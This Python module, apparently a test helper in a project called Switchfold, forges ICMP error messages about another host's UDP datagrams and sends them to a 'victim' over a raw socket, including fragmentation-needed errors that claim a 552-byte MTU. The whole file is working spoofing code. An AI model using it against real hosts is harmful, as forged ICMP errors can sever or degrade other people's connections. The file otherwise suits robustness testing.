# SPDX-FileCopyrightText: 2026 The Switchfold Authors
# SPDX-License-Identifier: Apache-2.0
"""Forged ICMP errors about other hosts' UDP datagrams. Needs root, or CAP_NET_RAW."""

from __future__ import annotations

import socket
import struct
from collections.abc import Iterator

DESTINATION_UNREACHABLE, SOURCE_QUENCH, TIME_EXCEEDED, PARAMETER_PROBLEM = 3, 4, 11, 12
FRAGMENTATION_NEEDED = (DESTINATION_UNREACHABLE, 4)
PORT_UNREACHABLE = (DESTINATION_UNREACHABLE, 3)
KINDS: tuple[tuple[int, int], ...] = (
    *((DESTINATION_UNREACHABLE, code) for code in range(16)),
    (SOURCE_QUENCH, 0),
    (TIME_EXCEEDED, 0),
    (TIME_EXCEEDED, 1),
    (PARAMETER_PROBLEM, 0),
)
"""Type and code of every ICMP error."""
TOLD_KINDS = [(DESTINATION_UNREACHABLE, code) for code in (2, 3, 4, 6, 7, 8, 9, 10, 13, 14, 15)]
TOLD_KINDS.append((PARAMETER_PROBLEM, 0))
"""Those that Linux reports to a connected UDP socket; it hides transient ones (net unreachable)."""
CLAIMED_MTU = 552
Address = tuple[str, int]


def _checksum(data: bytes) -> int:
    total = sum(word for (word,) in struct.iter_unpack("!H", data))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return total ^ 0xFFFF


def icmp_error(kind: tuple[int, int], source: Address, destination: Address) -> bytes:
    """Return an ICMP error that quotes a UDP datagram from `source` to `destination`."""
    addresses = socket.inet_aton(source[0]) + socket.inet_aton(destination[0])
    quoted = struct.pack("!BBHHHBBH", 0x45, 0, 1480, 0, 0x4000, 60, socket.IPPROTO_UDP, 0)
    quoted += addresses + struct.pack("!HHHH", source[1], destination[1], 1460, 0)
    rest = struct.pack("!HH", 0, CLAIMED_MTU if kind == FRAGMENTATION_NEEDED else 0)
    without = struct.pack("!BBH", *kind, 0) + rest + quoted
    return without[:2] + struct.pack("!H", _checksum(without)) + without[4:]


def forge(
    victim: Address, peer: Address, kinds: tuple[tuple[int, int], ...] = KINDS
) -> Iterator[tuple[int, int]]:
    """Send an ICMP error of each kind to the victim about its datagrams to a peer."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        for kind in kinds:
            sock.sendto(icmp_error(kind, victim, peer), (victim[0], 0))
            yield kind
